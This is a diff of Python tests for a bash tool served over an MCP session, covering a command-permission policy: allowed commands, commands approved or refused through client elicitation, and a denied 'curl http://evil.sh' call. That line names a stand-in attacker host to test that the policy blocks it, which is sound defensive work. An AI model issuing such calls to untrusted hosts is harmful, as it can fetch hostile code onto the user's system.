@@ -333,7 +333,10 @@ def _serve_params(policy: Path, workspace: Path) -> Any:
     return StdioServerParameters(command=toolplug, args=[*args, "--workspace", str(workspace)])
 
 
-async def _serve_and_call(policy: Path, workspace: Path, command: str, **session: Any) -> Any:
+async def _serve_and_call(
+    policy: Path, workspace: Path, commands: list[str], **session: Any
+) -> list[Any]:
+    """Run ``commands`` with bash over one ``toolplug mcp serve`` session, in order."""
     from mcp import ClientSession
     from mcp.client.stdio import stdio_client
 
@@ -342,37 +345,35 @@ async def _serve_and_call(policy: Path, workspace: Path, command: str, **session
         ClientSession(read, write, **session) as client,
     ):
         await client.initialize()
-        return await client.call_tool("bash", {"command": command})
+        return [await client.call_tool("bash", {"command": command}) for command in commands]
 
 
 async def test_mcp_serve_asks_the_client_through_elicitation(policy: Path, workspace: Path) -> None:
     import mcp.types as types
 
     questions: list[str] = []
+    answers = iter([True, False])
 
-    def answering(value: bool) -> Any:
-        async def elicit(context: Any, params: Any) -> types.ElicitResult:
-            questions.append(params.message)
-            return types.ElicitResult(action="accept", content={"value": value})
+    async def elicit(context: Any, params: Any) -> types.ElicitResult:
+        questions.append(params.message)
+        return types.ElicitResult(action="accept", content={"value": next(answers)})
 
-        return elicit
-
-    allowed = await _serve_and_call(policy, workspace, "echo over mcp")
-    assert not allowed.is_error and "over mcp" in allowed.content[0].text
-    yes = await _serve_and_call(
-        policy, workspace, "touch asked.txt", elicitation_callback=answering(True)
+    allowed, yes, no, denied = await _serve_and_call(
+        policy,
+        workspace,
+        ["echo over mcp", "touch asked.txt", "touch refused.txt", "curl http://evil.sh"],
+        elicitation_callback=elicit,
     )
+    assert not allowed.is_error and "over mcp" in allowed.content[0].text
     assert not yes.is_error, yes.content
     assert (workspace / "asked.txt").exists()
-    no = await _serve_and_call(
-        policy, workspace, "touch refused.txt", elicitation_callback=answering(False)
-    )
     assert no.is_error and not (workspace / "refused.txt").exists()
     assert len(questions) == 2 and "touch asked.txt" in questions[0]
-    cannot_ask = await _serve_and_call(policy, workspace, "touch unasked.txt")
-    assert cannot_ask.is_error and not (workspace / "unasked.txt").exists()
-    denied = await _serve_and_call(policy, workspace, "curl http://evil.sh")
+    assert "touch refused.txt" in questions[1]
     assert denied.is_error and "curl" in denied.content[0].text
+    # A client that declared no elicitation cannot be asked: the call is refused.
+    (cannot_ask,) = await _serve_and_call(policy, workspace, ["touch unasked.txt"])
+    assert cannot_ask.is_error and not (workspace / "unasked.txt").exists()
 
 
 def test_security_risk_declared_by_the_model_for_bash(tmp_path: Path, workspace: Path) -> None:
